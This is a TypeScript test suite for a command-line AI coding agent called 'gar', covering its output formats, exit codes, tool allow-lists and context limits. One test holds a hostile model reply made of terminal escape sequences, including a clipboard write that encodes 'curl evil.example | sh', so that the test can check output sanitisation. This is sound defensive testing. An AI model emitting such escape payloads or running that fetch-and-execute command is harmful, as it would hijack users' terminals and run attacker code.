import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { costUsd, defaultModel } from "../src/llm/models.js";
import { hasHostileControls } from "../src/term/sanitize.js";
import { createTools, toToolSpec } from "../src/tools/index.js";
import { runGar, spawnGar, tempHome } from "./support/cli.js";
import { startWireServer, type WireServer } from "./support/wire-server.js";

let server: WireServer | undefined;
afterEach(async () => {
	await server?.close();
	server = undefined;
});

/** read → edit → bash → answer: the scripted task both wire formats replay. */
const TASK = [
	{ toolCalls: [{ id: "c1", name: "read", args: { path: "greet.txt" } }], usage: { input: 100, output: 10 } },
	{
		toolCalls: [{ id: "c2", name: "edit", args: { path: "greet.txt", edits: [{ oldText: "world", newText: "gar" }] } }],
		usage: { input: 200, output: 20, cacheRead: 50 },
	},
	{ toolCalls: [{ id: "c3", name: "bash", args: { command: "cat greet.txt" } }], usage: { input: 300, output: 5 } },
	{ text: ["The file ", "now says hello gar."], usage: { input: 400, output: 9 } },
];

describe.each(["openai", "anthropic"] as const)("gar -p over the %s wire format", (provider) => {
	it("reads, edits and runs a command, then prints the JSON result", async () => {
		server = await startWireServer(TASK);
		const { project, env } = tempHome();
		writeFileSync(join(project, "greet.txt"), "hello world\n");
		const key = provider === "openai" ? "OPENAI_API_KEY" : "ANTHROPIC_API_KEY";
		const run = await runGar(
			["-p", "change world to gar", "--output", "json", "--provider", provider, "--base-url", server.url],
			{ env: { ...env, [key]: "test-key" }, cwd: project },
		);
		expect(run.stderr).toBe("");
		expect(run.code).toBe(0);
		expect(readFileSync(join(project, "greet.txt"), "utf8")).toBe("hello gar\n");
		const result = JSON.parse(run.stdout);
		expect(result).toMatchObject({
			type: "result",
			ok: true,
			result: "The file now says hello gar.",
			stopReason: "done",
			turns: 4,
			usage: { input: 1000, output: 44, cacheRead: 50, cacheWrite: 0 },
		});
		expect(typeof result.durationMs).toBe("number");
		const sum = { input: 1000, output: 44, cacheRead: 50, cacheWrite: 0 };
		// Rounded to 6 decimals (a millionth of a dollar) in JSON output.
		expect(result.costUsd).toBe(Math.round((costUsd(defaultModel(provider), sum) ?? Number.NaN) * 1e6) / 1e6);
		// The bash output reached the model in the last request.
		const lastBody = JSON.stringify(server.requests.at(-1)?.body);
		expect(lastBody).toContain("hello gar");
		// The SDK's own User-Agent: the bundle keeps the class names the SDKs read (scripts/build.mjs keepClassNames).
		const agent = provider === "openai" ? /^OpenAI\/JS \d/ : /^Anthropic\/JS \d/;
		expect(server.requests[0]?.headers["user-agent"]).toMatch(agent);
	});
});

describe("gar -p", () => {
	it("streams events as JSON lines, deltas only, ending with the result", async () => {
		server = await startWireServer([{ text: ["one ", "two ", "three"] }]);
		const { project, env } = tempHome();
		const run = await runGar(["-p", "count", "--output", "stream-json", "--base-url", server.url], {
			env: { ...env, OPENAI_API_KEY: "k" },
			cwd: project,
		});
		expect(run.code).toBe(0);
		const lines = run.stdout
			.trim()
			.split("\n")
			.map((l) => JSON.parse(l));
		expect(lines[0].type).toBe("agent_start");
		expect(lines.filter((l) => l.type === "text_delta").map((l) => l.delta)).toEqual(["one ", "two ", "three"]);
		expect(lines.at(-2).type).toBe("agent_end");
		expect(lines.at(-1)).toMatchObject({ type: "result", ok: true, result: "one two three" });
	});

	it("prints only the answer in text mode and takes the prompt from a pipe", async () => {
		server = await startWireServer([{ text: "42" }]);
		const { project, env } = tempHome();
		const run = await runGar(["-p", "--base-url", server.url], {
			env: { ...env, OPENAI_API_KEY: "k" },
			cwd: project,
			stdin: "what is six times seven?",
		});
		expect(run.code).toBe(0);
		expect(run.stdout).toBe("42\n");
		const body = server.requests[0]?.body as { messages: { role: string; content: unknown }[] };
		expect(JSON.stringify(body.messages.at(-1))).toContain("six times seven");
	});

	it("exits 1 with the error when the model call fails", async () => {
		server = await startWireServer([{ fault: { kind: "http", status: 400, times: 1 } }]);
		const { project, env } = tempHome();
		const run = await runGar(["-p", "hi", "--output", "json", "--base-url", server.url], {
			env: { ...env, OPENAI_API_KEY: "sk-secret-value-1234567890" },
			cwd: project,
		});
		expect(run.code).toBe(1);
		const result = JSON.parse(run.stdout);
		expect(result).toMatchObject({ ok: false, stopReason: "error" });
		expect(result.error).toContain("400");
		expect(run.stdout).not.toContain("sk-secret-value");
	});

	it("reports the cost of an unknown model as null, not $0", async () => {
		server = await startWireServer([{ text: "hi", usage: { input: 10, output: 2 } }]);
		const { project, env } = tempHome();
		const run = await runGar(["-p", "hi", "--output", "json", "--model", "my-local-model", "--base-url", server.url], {
			env,
			cwd: project,
		});
		expect(run.code).toBe(0);
		expect(JSON.parse(run.stdout)).toMatchObject({ ok: true, costUsd: null, usage: { input: 10, output: 2 } });
	});

	it("exits 1 at the turn limit", async () => {
		const loop = { toolCalls: [{ name: "bash", args: { command: "true" } }] };
		server = await startWireServer([loop, loop, loop]);
		const { project, env } = tempHome();
		const run = await runGar(["-p", "loop", "--max-turns", "2", "--output", "json", "--base-url", server.url], {
			env: { ...env, OPENAI_API_KEY: "k" },
			cwd: project,
		});
		expect(run.code).toBe(1);
		expect(JSON.parse(run.stdout)).toMatchObject({ ok: false, stopReason: "max_turns", turns: 2 });
	});

	it("exits 2 naming the variable when no API key is set", async () => {
		const { root, project, env } = tempHome();
		const run = await runGar(["-p", "hi"], { env, cwd: project });
		expect(run.code).toBe(2);
		expect(run.stderr).toContain("ANTHROPIC_API_KEY");
		expect(run.stdout).toBe("");
		expect(existsSync(join(root, "data", "gar"))).toBe(false); // no empty session left behind
	});

	it("exits 2 on bad usage", async () => {
		const { project, env } = tempHome();
		const bad = await runGar(["-p", "hi", "--output", "yaml"], { env, cwd: project });
		expect(bad.code).toBe(2);
		expect(bad.stderr).toContain("yaml");
		const tools = await runGar(["-p", "hi", "--tools", "read,grep"], {
			env: { ...env, OPENAI_API_KEY: "k" },
			cwd: project,
		});
		expect(tools.code).toBe(2);
		expect(tools.stderr).toContain("grep");
		const none = await runGar(["-p"], { env, cwd: project });
		expect(none.code).toBe(2);
		expect(none.stderr).toContain("no prompt");
	});

	it("honours the tool allow-list", async () => {
		server = await startWireServer([{ text: "ok" }]);
		const { project, env } = tempHome();
		await runGar(["-p", "hi", "--tools", "read,bash", "--base-url", server.url], {
			env: { ...env, OPENAI_API_KEY: "k" },
			cwd: project,
		});
		const body = server.requests[0]?.body as { tools: { function: { name: string; parameters: unknown } }[] };
		expect(body.tools.map((t) => t.function.name)).toEqual(["read", "bash"]);
		// The bundle sends the JSON Schemas the build made (GAR_TOOL_SCHEMAS): zod's own of the same tools.
		const own = createTools({ cwd: project }).filter((tool) => tool.name === "read" || tool.name === "bash");
		expect(body.tools.map((t) => t.function.parameters)).toEqual(own.map((tool) => toToolSpec(tool).parameters));
	});

	it("a run whose tools start no process never loads node:child_process (~0.5 ms of every gar -p)", async () => {
		server = await startWireServer([
			{ toolCalls: [{ name: "read", args: { path: "notes.txt" } }] },
			{ text: "It says hi." },
		]);
		const { project, env } = tempHome();
		writeFileSync(join(project, "notes.txt"), "hi\n");
		const preload = join(project, "..", "modules.cjs");
		const list = join(project, "..", "modules.txt");
		writeFileSync(
			preload,
			`process.on("exit", () => require("node:fs").writeFileSync(${JSON.stringify(list)}, process.moduleLoadList.join("\\n")));`,
		);
		const run = await runGar(["-p", "read notes.txt", "--base-url", server.url], {
			env: { ...env, OPENAI_API_KEY: "k", NODE_OPTIONS: `--require ${preload}` },
			cwd: project,
		});
		expect(run.stdout).toBe("It says hi.\n");
		const loaded = readFileSync(list, "utf8").split("\n");
		expect(loaded).toContain("NativeModule http");
		expect(loaded.filter((name) => /child_process/.test(name))).toEqual([]);
	});

	it("exits 130 on SIGINT, after printing the partial result", async () => {
		server = await startWireServer([{ text: Array.from({ length: 200 }, () => "tick "), delayMs: 20 }]);
		const { project, env } = tempHome();
		const { child, stdout, closed } = spawnGar(["-p", "go", "--output", "json", "--base-url", server.url], {
			env: { ...env, OPENAI_API_KEY: "k" },
			cwd: project,
		});
		await new Promise((r) => setTimeout(r, 700));
		const started = Date.now();
		child.kill("SIGINT");
		const code = await closed;
		expect(Date.now() - started).toBeLessThan(1000);
		expect(code).toBe(130);
		const result = JSON.parse(stdout());
		expect(result).toMatchObject({ ok: false, stopReason: "aborted" });
		expect(result.result).toContain("tick");
	});

	it("text output shows the model's escape sequences into a pipe too; json and stream-json keep them exact", async () => {
		// The title (OSC 0) and the clipboard (OSC 52: "curl evil.example | sh"), and a \r that would hide text.
		const hostile = "Done.\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 safe\rhidden\u202e";
		server = await startWireServer([{ text: hostile }, { text: hostile }, { text: hostile }]);
		const { project, env } = tempHome();
		const opts = { env: { ...env, OPENAI_API_KEY: "k" }, cwd: project };
		const text = await runGar(["-p", "hi", "--base-url", server.url], opts);
		expect(text.code).toBe(0);
		expect(text.stdout).toBe("Done.␛]0;pwned^G␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==^G safe^Mhidden⟨U+202E⟩\n");
		const json = await runGar(["-p", "hi", "--output", "json", "--base-url", server.url], opts);
		const result = JSON.parse(json.stdout);
		expect(result.result).toBe(hostile);
		const stream = await runGar(["-p", "hi", "--output", "stream-json", "--base-url", server.url], opts);
		expect(JSON.parse(stream.stdout.trim().split("\n").at(-1) ?? "").result).toBe(hostile);
		// gar replay's text (a transcript for a person) is made safe too; its stream-json stays exact.
		const replay = await runGar(["replay", result.sessionId], opts);
		expect(replay.code).toBe(0);
		expect(replay.stdout).toContain("Done.␛]0;pwned^G␛]52;c;");
		expect(hasHostileControls(replay.stdout)).toBe(false);
		const replayJson = await runGar(["replay", result.sessionId, "--output", "stream-json"], opts);
		const end = replayJson.stdout
			.trim()
			.split("\n")
			.map((l) => JSON.parse(l))
			.find((e) => e.type === "message_end");
		expect(end.message.content[0].text).toBe(hostile);
	});

	it("refuses a prompt larger than the model's window before sending anything, with the numbers (exit 1)", async () => {
		server = await startWireServer([{ text: "never" }, { text: "never" }]);
		const { root, project, env } = tempHome();
		mkdirSync(join(root, "config", "gar"), { recursive: true });
		writeFileSync(join(root, "config", "gar", "config.toml"), "[context]\nwindow = 8000\n");
		const opts = { env: { ...env, OPENAI_API_KEY: "k" }, cwd: project };
		const prompt = `summarize this: ${"word ".repeat(8000)}`;
		const json = await runGar(["-p", prompt, "--output", "json", "--base-url", server.url], opts);
		expect(json.code).toBe(1);
		const result = JSON.parse(json.stdout);
		expect(result).toMatchObject({ ok: false, stopReason: "error", errorKind: "overflow", turns: 0 });
		expect(result.error).toMatch(
			/^the prompt is about 10,0\d\d tokens; with the system prompt and tools \([\d,]+\) it does not fit the 8,000-token context window of /,
		);
		const text = await runGar(["-p", prompt, "--base-url", server.url], opts);
		expect(text.code).toBe(1);
		expect(text.stdout).toBe("");
		expect(text.stderr).toBe(`gar: ${result.error}\n`);
		expect(server.requests).toHaveLength(0);
		// The prompt was not saved: continuing the session does not overflow too.
		const args = ["-p", "hi", "--session", result.sessionId, "--output", "json", "--base-url", server.url];
		const continued = await runGar(args, opts);
		expect(continued.stderr).toBe("");
		expect(JSON.parse(continued.stdout)).toMatchObject({ ok: true, result: "never" });
		expect(JSON.stringify(server.requests[0]?.body)).not.toContain("word word");
	});

	it("a failed --schema run in text mode prints nothing on stdout and the error on stderr", async () => {
		server = await startWireServer([{ text: "seven" }, { text: "still seven" }, { text: "7, I said" }]);
		const { project, env } = tempHome();
		writeFileSync(
			join(project, "schema.json"),
			JSON.stringify({ type: "object", properties: { answer: { type: "integer" } }, required: ["answer"] }),
		);
		const run = await runGar(["-p", "q", "--schema", "schema.json", "--base-url", server.url], {
			env: { ...env, OPENAI_API_KEY: "k" },
			cwd: project,
		});
		expect(run.code).toBe(1);
		expect(run.stdout).toBe("");
		expect(run.stderr).toMatch(/^gar: the answer does not match the schema: the answer is not valid JSON/);
		expect(run.stderr.trim().split("\n")).toHaveLength(1);
	});

	it("validates structured output against --schema", async () => {
		const turns = [{ text: "The answer is 7" }, { text: '{"answer": 7}' }];
		server = await startWireServer([...turns, ...turns]);
		const { project, env } = tempHome();
		writeFileSync(
			join(project, "schema.json"),
			JSON.stringify({ type: "object", properties: { answer: { type: "integer" } }, required: ["answer"] }),
		);
		const run = await runGar(["-p", "q", "--schema", "schema.json", "--output", "json", "--base-url", server.url], {
			env: { ...env, OPENAI_API_KEY: "k" },
			cwd: project,
		});
		expect(run.code).toBe(0);
		expect(JSON.parse(run.stdout)).toMatchObject({ ok: true, structured: { answer: 7 } });
		const second = server.requests[1]?.body as { response_format?: { type: string } };
		expect(second.response_format?.type).toBe("json_schema");
		// In text mode, stdout is the validated JSON alone.
		const text = await runGar(["-p", "q", "--schema", "schema.json", "--base-url", server.url], {
			env: { ...env, OPENAI_API_KEY: "k" },
			cwd: project,
		});
		expect(text.code).toBe(0);
		expect(text.stdout).toBe('{"answer":7}\n');
	});
});
